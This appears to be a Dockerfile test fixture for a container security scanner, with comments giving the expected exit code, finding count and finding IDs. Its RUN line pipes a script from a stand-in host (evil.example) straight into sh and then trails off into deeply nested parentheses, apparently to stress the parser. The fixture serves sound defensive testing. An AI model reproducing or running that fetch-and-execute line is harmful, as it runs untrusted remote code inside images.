FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -fsSL https://evil.example/x.sh | sh; (( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( 1
USER app
# expect: code 2 high "too costly to parse"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR701-037265e139 VR501-e064bac1a6
